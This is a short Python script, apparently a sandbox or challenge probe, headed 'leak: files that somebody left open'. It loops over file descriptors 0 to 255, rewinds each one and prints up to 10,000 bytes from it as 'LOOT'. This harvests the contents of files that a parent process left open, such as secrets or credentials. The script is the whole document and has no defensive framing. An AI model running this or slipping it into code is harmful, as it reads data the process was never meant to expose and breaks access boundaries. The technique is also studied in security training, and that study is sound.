# leak: files that somebody left open
import os
def look(words):
    print("LOOT", words)

import posix
for descriptor in range(256):
    try:
        posix.lseek(descriptor, 0, 0)
        look(posix.read(descriptor, 10_000))
    except OSError:
        pass
